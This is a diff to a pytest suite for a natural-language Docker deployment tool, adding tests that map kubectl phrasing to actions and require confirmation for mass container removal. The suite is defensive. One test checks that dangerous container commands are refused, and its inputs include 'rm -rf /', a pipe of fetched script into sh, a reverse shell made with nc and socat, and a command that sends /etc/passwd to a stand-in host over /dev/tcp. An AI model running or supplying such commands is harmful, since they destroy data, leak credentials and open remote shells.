@@ -998,6 +998,10 @@ def test_a_known_image_that_runs_nowhere_is_offered_as_a_new_container(world: St
 
 @pytest.mark.parametrize('command', ["start an alpine container that runs 'rm -rf --no-preserve-root /'",
                                      'run ubuntu and inside it do curl http://example.invalid/x.sh | sh',
+                                     'docker run alpine:3.20 sh -c "rm -rf / --no-preserve-root"',   # after the image:
+                                     'Run alpine:3.20 with command echo hi && rm -rf /data',          # its command
+                                     'Run ubuntu:24.04 and have it do cat /etc/passwd > /dev/tcp/example.invalid/80',
+                                     'docker run busybox:1.36 sh -c "$(curl -s http://example.invalid/p)"',
                                      'run busybox with command `nc -e /bin/sh 10.0.0.5 4444`',
                                      "run alpine with command 'socat tcp:10.0.0.5:4444 exec:/bin/bash'"])
 def test_a_container_whose_command_is_shell_is_not_planned_at_all(command: str, world: State) -> None:
@@ -1241,3 +1245,54 @@ def two_web_servers(world: State) -> State:
     from deployer.nlp.state import Box
     return State.build([*world.containers, Box('docs', 'nginx:1.27', 'running'),
                         Box('crm-db-1', 'mysql:8.0', 'running', 'crm', 'db')], world.templates)
+
+
+@pytest.mark.parametrize(('command', 'expected'), [
+    ('kubectl get pods -n shop', [status('shop')]),                         # a namespace is a stack
+    ('get all -n blog', [status('blog')]),
+    ('kubectl get ns', [{'type': 'list', 'kind': 'stacks'}]),
+    ('what namespaces are there', [{'type': 'list', 'kind': 'stacks'}]),
+    ('kubectl scale deploy web --replicas=0 -n shop', [scale('shop', 'web', 0)]),   # a deployment is a service
+    ('k logs deploy/db -n blog --tail=20', [logs('blog-db-1', tail=20)]),
+    ('kubectl logs shop-db-1 --since=6h -f', [logs('shop-db-1', since='6h', follow=True)]),
+    ('kubectl rollout restart deploy -n shop', OneOf([stack('restart', 'shop')],
+                                                      [restart('shop-api-1', 'shop-db-1', 'shop-web-1')])),
+    ('restart all pods in namespace blog', OneOf([stack('restart', 'blog')], [restart('blog-wordpress-1', 'blog-db-1')])),
+    ('rollout restart every deployment in blog', OneOf([stack('restart', 'blog')],
+                                                        [restart('blog-wordpress-1', 'blog-db-1')])),
+    ('kubectl rollout undo -n blog', [{'type': 'rollback', 'stack': 'blog'}]),
+    ('undo the last rollout in shop', [{'type': 'rollback', 'stack': 'shop'}]),
+    ('kubectl delete pod shop-api-1', [restart('shop-api-1')]),             # its controller would make it again
+    ('kubectl describe pod traefik', [status('traefik')]),
+    ('run busybox in the host pid namespace', [run(image='busybox', pid='host')]),   # the kernel's, not a stack
+    ('Please provide a record of all deployments performed on this host.', [{'type': 'history', 'stack': None}]),
+])
+def test_kubernetes_words_are_said_the_way_this_host_works(command: str, expected: Any, world: State) -> None:
+    check(command, expected, world)
+
+
+@pytest.mark.parametrize('command', ['kubectl apply -f deployment.yaml', 'kubectl exec -it shop-web-1 -- bash',
+                                     'kubectl drain node-1 --ignore-daemonsets', 'kubectl config use-context prod'])
+def test_a_kubectl_command_with_no_equivalent_plans_nothing_and_says_so(command: str, world: State) -> None:
+    actions, parsed = parse(command, world)
+    assert actions == []
+    assert any('has no equivalent on this Docker host' in w for w in parsed.warnings), parsed.warnings
+
+
+@pytest.mark.parametrize('command', ['Just nuke everything lol', 'kill em all 😂', 'Yeet all the containers',
+                                     'Clean it all up, remove whatever'])
+def test_a_sweeping_removal_said_in_passing_is_asked_about(command: str, world: State) -> None:
+    """Every container of the host removed (or every running one killed) on a joke or a vague "everything":
+    asked, with the count, never planned."""
+    actions, parsed = parse(command, world)
+    assert [a for a in actions if a['type'] == 'container'] == [], actions
+    assert any('every' in q.text and 'container on this host' in q.text for q in parsed.questions), parsed.questions
+
+
+@pytest.mark.parametrize('command', ['remove all containers', 'please delete all the containers', 'kill all running containers',
+                                     'nuke all the containers'])
+def test_a_sweeping_removal_said_plainly_is_planned_for_confirmation(command: str, world: State) -> None:
+    actions, parsed = parse(command, world)
+    assert len(actions) == 1 and actions[0]['type'] == 'container' and actions[0]['op'] in ('remove', 'kill')
+    assert len(actions[0]['targets']) >= len(RUNNING), actions
+    assert parsed.questions == []
